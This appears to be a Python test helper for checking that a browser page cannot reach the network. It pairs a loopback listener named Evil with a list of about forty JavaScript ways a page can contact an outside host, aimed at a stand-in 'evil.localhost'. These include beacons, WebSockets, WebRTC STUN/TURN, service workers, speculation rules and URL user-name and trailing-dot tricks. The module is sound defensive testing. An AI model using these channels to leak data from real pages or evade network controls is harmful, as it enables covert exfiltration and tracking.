"""A listener nobody may reach, and all the ways a page has to try.

Knows: TCP and UDP on loopback, and what pages can do. Must not know: what keeps them in.
"""

from __future__ import annotations

import socket
import threading

__all__ = ["SERVICE", "WAYS", "Evil", "attempt"]

# Each runs in a page that may be loaded. E is the listener's address over http, W over ws, H is
# host and port.
WAYS = {
    "fetch": "await fetch(E + '/fetch').catch(() => 0)",
    "image": "await loads(Object.assign(new Image(), {src: E + '/image'}))",
    "redirected fetch": "await fetch('/to-evil').catch(() => 0)",
    "post": "await fetch(E, {method: 'POST', body: 'x', mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "await fetch(E, {keepalive: true, mode: 'no-cors'}).catch(() => 0)",
    "beacon": "navigator.sendBeacon(E + '/beacon', 'x')",
    "event source": "await loads(new EventSource(E + '/events'))",
    "websocket": "await loads(new WebSocket(W + '/socket'))",
    "frame": "await added('iframe', {src: E + '/frame'})",
    "redirected frame": "await added('iframe', {src: '/to-evil'})",
    "frame with refresh": """await added('iframe', {srcdoc:
        `<meta http-equiv=refresh content="0;url=${E}/refresh">`})""",
    "script": "await added('script', {src: E + '/script.js'})",
    "style": "await added('link', {rel: 'stylesheet', href: E + '/style.css'})",
    "font and background": """document.head.append(Object.assign(document.createElement('style'),
        {textContent: `@font-face {font-family: q; src: url(${E}/font)}
        body {font-family: q; background: url(${E}/background)}`}))""",
    "video": "await added('video', {src: E + '/video'})",
    "object": "await added('object', {data: E + '/object'})",
    "icon": "added('link', {rel: 'icon', href: E + '/icon'})",
    "prefetch": "added('link', {rel: 'prefetch', href: E + '/prefetch'})",
    "preconnect": "added('link', {rel: 'preconnect', href: E})",
    "dns prefetch": "added('link', {rel: 'dns-prefetch', href: E})",
    "module preload": "added('link', {rel: 'modulepreload', href: E + '/module.js'})",
    "speculation": """document.head.append(Object.assign(document.createElement('script'),
        {type: 'speculationrules', textContent: JSON.stringify({
          prefetch: [{source: 'list', urls: [E + '/speculated']}],
          prerender: [{source: 'list', urls: ['/to-evil']}]})}))""",
    "ping": """Object.assign(document.body.appendChild(document.createElement('a')),
        {href: '#x', ping: E + '/ping'}).click()""",
    "popup": "window.open(E + '/popup')",
    "popup without opener": "window.open(E + '/popup', '_blank', 'noopener')",
    "redirected popup": "window.open('/to-evil')",
    "form to a new tab": """{ const f = added('form', {action: E + '/form', target: '_blank',
        method: 'post'}, true); f.submit() }""",
    "worker": "await works(Worker, `await fetch('${E}/worker').catch(() => 0)`)",
    "worker that imports": "await works(Worker, `importScripts('${E}/imported')`)",
    "worker with a socket": "await works(Worker, `new WebSocket('${W}/socket')`)",
    "shared worker": "await works(SharedWorker, `await fetch('${E}/shared').catch(() => 0)`)",
    "shared worker with a socket": "await works(SharedWorker, `new WebSocket('${W}/shared')`)",
    "service worker": """await navigator.serviceWorker.register(
        '/service.js?e=' + encodeURIComponent(E));
        await navigator.serviceWorker.ready""",
    "webrtc by udp": """{ const p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + H}]});
        p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
        await gathered(p) }""",
    "webrtc by tcp": """{ const p = new RTCPeerConnection({iceServers: [{username: 'a',
        urls: `turn:${H}?transport=tcp`, credential: 'b'}]});
        p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
        await gathered(p) }""",
    "webtransport": """{ const t = new WebTransport(`https://${H}/t`);
        await Promise.allSettled([t.ready, t.closed]) }""",
    "user name": "await fetch(E.replace('://', '://good.localhost@')).catch(() => 0)",
    "trailing dot": "await fetch(E.replace('evil.localhost', 'evil.localhost.')).catch(() => 0)",
    "location": "location.href = E + '/location'",
    "meta refresh": """document.head.append(Object.assign(document.createElement('meta'),
        {httpEquiv: 'refresh', content: `0;url=${E}/refresh`}))""",
}

_TOOLS = """const soon = new Promise(r => setTimeout(r, 400));
const loads = thing => Promise.race([soon, new Promise(r => {
  thing.onload = thing.onerror = thing.onclose = thing.onopen = r})]);
const added = (tag, fields, plain) => {
  const made = Object.assign(document.createElement(tag), fields);
  (document.body ?? document.head).append(made);
  return plain ? made : loads(made) };
const gathered = p => Promise.race([soon, new Promise(r =>
  p.onicegatheringstatechange = () => p.iceGatheringState == 'complete' && r())]);
const works = async (Kind, code) => {
  const text = `(async () => { ${code} })().catch(() => 0).finally(() =>
    self.postMessage ? postMessage(1) : 0)`;
  const blob = new Blob([text], {type: 'text/javascript'});
  const made = new Kind(URL.createObjectURL(blob));
  await Promise.race([soon, new Promise(r => made.onmessage = made.onerror = r)]) };"""

SERVICE = """const E = new URL(location).searchParams.get('e');
addEventListener('install', e => e.waitUntil(fetch(E, {mode: 'no-cors'}).catch(() => 0)));
try { new WebSocket(E.replace('http', 'ws')) } catch (e) {}"""


def attempt(way: str, host: str, port: int) -> str:
    """The script of one way."""
    to = f"const E = 'http://{host}:{port}', W = 'ws://{host}:{port}', H = '{host}:{port}';"
    return f"(async () => {{ {to} {_TOOLS} {WAYS[way]}; return 1 }})()"


class Evil:
    """Counts everything that arrives, over TCP or UDP; a connection that says nothing counts."""

    def __init__(self) -> None:
        self.arrived: list[str] = []
        self._over = False
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._threads = [threading.Thread(target=t, daemon=True) for t in (self._hear, self._take)]

    def __enter__(self) -> Evil:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        # A closed socket does not wake who waits on it; a last visitor does.
        self._over = True
        socket.create_connection(("127.0.0.1", self.port)).close()
        self._udp.sendto(b"", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()

    def _take(self) -> None:
        while True:
            client, _ = self._tcp.accept()
            if self._over:
                client.close()
                return
            self.arrived.append("a connection")
            threading.Thread(target=self._answer, args=(client,), daemon=True).start()

    def _answer(self, client: socket.socket) -> None:
        with client:
            client.settimeout(2.0)
            try:
                self.arrived.append(client.recv(2000).split(b"\r\n")[0].decode("latin-1"))
                client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nevil")
            except OSError:
                return

    def _hear(self) -> None:
        while True:
            said, _ = self._udp.recvfrom(4000)
            if self._over:
                return
            self.arrived.append(f"a datagram of {len(said)} bytes")
